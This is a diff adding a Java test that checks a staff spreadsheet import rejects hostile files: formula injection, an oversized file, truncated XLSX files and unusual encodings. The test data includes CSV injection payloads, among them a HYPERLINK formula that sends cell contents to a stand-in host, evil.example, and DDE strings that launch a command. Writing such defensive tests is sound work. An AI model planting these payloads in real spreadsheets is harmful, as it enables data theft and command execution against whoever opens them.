@@ -8,6 +8,7 @@ import static org.assertj.core.api.Assertions.tuple;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.io.UncheckedIOException;
+import java.nio.charset.StandardCharsets;
 import java.time.LocalDate;
 import java.util.List;
 import java.util.Map;
@@ -371,6 +372,69 @@ class SpreadsheetImportTest {
             throw new UncheckedIOException(e);
         }
         return out.toByteArray();
+    }
+
+    /**
+     * The hostile spreadsheet corpus (issue 34 §5): each answered with a message naming the problem, the rows
+     * that are fine still previewed (nothing of the file is lost), and the next import still works.
+     */
+    @Test
+    void hostileSpreadsheetsAreAnsweredClearlyAndTheGoodRowsAreKept() {
+        importOrganisation();
+        String header = "Name,E-mail,Job role,Centre,Start date\n";
+        String good = "Ann Alder," + f.email("ann") + ",Family support worker,EY" + f.s + "01,01/09/2025\n";
+        StringBuilder table = new StringBuilder(String.format("%-36s %-8s %-30s %-9s %-12s%n", "input kind", "payloads", "clear message",
+            "server up", "nothing lost"));
+
+        List<String> injections = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1", "\t=1+1");
+        StringBuilder hostile = new StringBuilder(header).append(good);
+        for (int i = 0; i < injections.size(); i++) {
+            hostile.append('"').append(injections.get(i).replace("\"", "\"\"")).append("\",").append(f.email("f" + i))
+                .append(",Midwife,EY").append(f.s).append("01,01/09/2025\n");
+        }
+        ImportPreview formulas = staff.preview(hostile.toString().getBytes(StandardCharsets.UTF_8), "formulas.csv", EFFECTIVE, false);
+        assertThat(formulas.problems()).extracting(ImportProblem::row, ImportProblem::messageKey).containsExactly(
+            tuple(3, "import.cell.formula"), tuple(4, "import.cell.formula"), tuple(5, "import.cell.formula"), tuple(6, "import.cell.formula"),
+            tuple(7, "import.cell.formula"), tuple(8, "import.cell.formula"));
+        assertThat(formulas.changes()).extracting(PlannedChange::subject).anyMatch(s -> s.contains(f.email("ann")));
+        row(table, "spreadsheet: formula injection", injections.size(), "import.cell.formula", true);
+
+        StringBuilder many = new StringBuilder(header);
+        for (int i = 0; i < 100_000; i++) {
+            many.append("Person ").append(i).append(",p").append(i).append('.').append(f.s).append("@example.org,Midwife,EY").append(f.s)
+                .append("01,01/09/2025\n");
+        }
+        long started = System.nanoTime();
+        assertRefused(many.toString().getBytes(StandardCharsets.UTF_8), "import.file.tooManyRows");
+        System.out.printf("100 000 rows refused in %d ms (limit %d rows)%n", (System.nanoTime() - started) / 1_000_000, Spreadsheet.MAX_ROWS);
+        row(table, "spreadsheet: 100 000 rows", 1, "import.file.tooManyRows", true);
+
+        byte[] workbook = xlsx(false);
+        for (byte[] broken : List.of(java.util.Arrays.copyOf(workbook, workbook.length / 2), java.util.Arrays.copyOf(workbook, 40))) {
+            assertThatThrownBy(() -> staff.preview(broken, "broken.xlsx", EFFECTIVE, false)).as("a malformed XLSX is refused with a reason")
+                .isInstanceOfSatisfying(RuleViolation.class, refused -> assertThat(
+                    java.util.ResourceBundle.getBundle("vaadin-i18n.translations").containsKey(refused.messageKey())).isTrue());
+        }
+        row(table, "spreadsheet: malformed XLSX", 2, "import.file.*", true);
+
+        String zoe = header + "Zoë Brontë," + f.email("zoe") + ",Midwife,EY" + f.s + "01,01/09/2025\n";
+        String sian = header + "Siân Ó Brádaigh," + f.email("sian") + ",Midwife,EY" + f.s + "01,01/09/2025\n";
+        staff.apply(zoe.getBytes(java.nio.charset.Charset.forName("windows-1252")), "zoe.csv", EFFECTIVE, false, NO_PROGRESS);
+        staff.apply(("\uFEFF" + sian).getBytes(StandardCharsets.UTF_8), "sian.csv", EFFECTIVE, false, NO_PROGRESS);
+        assertThat(jdbc.queryForObject("select full_name from person where email = ?", String.class, f.email("zoe"))).isEqualTo("Zoë Brontë");
+        assertThat(jdbc.queryForObject("select full_name from person where email = ?", String.class, f.email("sian")))
+            .isEqualTo("Siân Ó Brádaigh");
+        row(table, "spreadsheet: CSV in Windows-1252, with BOM", 2, "read as written", true);
+
+        // The server is up: the good file imports after all of that.
+        staff.apply(f.file("staff.csv"), "staff.csv", EFFECTIVE, false, NO_PROGRESS);
+        assertThat(personId("ann")).isPositive();
+        System.out.println("\nHostile spreadsheets (staff import)\n" + table);
+    }
+
+    private static void row(StringBuilder table, String kind, int payloads, String message, boolean kept) {
+        table.append(String.format("%-36s %-8d %-30.30s %-9s %-12s%n", kind, payloads, "yes: " + message, "yes", kept ? "yes" : "NO"));
     }
 
     @Test
